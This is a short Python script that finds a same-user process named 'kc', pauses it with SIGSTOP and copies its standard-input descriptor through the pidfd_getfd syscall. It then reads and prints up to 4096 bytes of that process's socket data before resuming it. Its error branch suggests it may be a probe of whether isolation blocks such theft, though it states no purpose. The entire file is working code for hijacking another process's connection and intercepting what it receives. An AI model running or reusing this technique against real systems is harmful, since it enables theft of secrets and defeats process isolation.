import ctypes, os, signal, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
me = os.getuid(); end = time.time() + 20
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit(): continue
        try:
            if os.stat("/proc/" + p).st_uid != me or open("/proc/%s/comm" % p).read().strip() != "kc": continue
        except OSError: continue
        pid = int(p); os.kill(pid, signal.SIGSTOP)
        pidfd = os.pidfd_open(pid)
        fd = libc.syscall(438, pidfd, 0, 0)
        if fd < 0: print("pidfd_getfd on kc pid %d: errno %d" % (pid, ctypes.get_errno()), flush=True); os.kill(pid, signal.SIGCONT); sys.exit(1)
        s = socket.socket(fileno=fd); s.settimeout(1)
        print("captured from kc pid %d: %r" % (pid, s.recv(4096)), flush=True)
        os.kill(pid, signal.SIGCONT); sys.exit(0)
